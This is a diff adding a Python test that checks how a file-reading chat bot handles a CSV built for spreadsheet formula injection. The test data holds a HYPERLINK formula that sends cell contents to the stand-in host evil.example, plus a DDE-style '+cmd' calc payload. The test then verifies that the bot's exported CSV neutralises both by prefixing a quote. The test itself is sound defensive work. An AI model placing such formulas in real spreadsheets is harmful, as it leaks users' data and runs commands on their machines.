@@ -185,3 +185,25 @@ async def test_without_the_store_the_asker_hears_files_are_not_read(tmp_path: Pa
         await h.idle()
         assert h.fake.calls_to("file") == []
         assert "cannot read shared files" in " ".join(m.text for m in h.fake.visible("C1"))
+
+
+async def test_a_csv_with_formula_injection_stays_data_and_is_quoted_in_the_export(
+    tmp_path: Path,
+) -> None:
+    """A shared CSV whose cells are spreadsheet formulas: DuckDB keeps them as text, and the
+    CSV of the cut table the bot attaches quotes them, so Excel never runs them."""
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    rows = "".join(f'{i},"{evil.replace(chr(34), chr(34) * 2)}"\n' for i in range(150))
+    data = ("id,note\n" + rows + "150,+cmd|' /C calc'!A0\n").encode()
+    script = [ScriptedResponse.tool("query_files", {"sql": "SELECT * FROM evil"}), "Done."]
+    async with running_bot(tmp_path, script, files=store(tmp_path)) as h:
+        await h.event(with_files(h, h.fake.share_file("evil.csv", data)))
+        await h.idle()
+        assert "evil (from evil.csv, 151 rows): id BIGINT, note VARCHAR" in h.llm_questions()[0]
+        assert evil in tool_results(h)[0].replace('""', '"')
+        [export] = [v for k, v in h.fake.uploads.items() if h.fake.files[k].name.endswith(".csv")
+                    and not h.fake.files[k].private]  # fmt: skip
+        lines = export.decode().splitlines()
+        assert lines[1] == '0,"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")"'
+        assert not any(cell.startswith(("=", "+", "@")) for line in lines
+                       for cell in line.split(","))  # fmt: skip
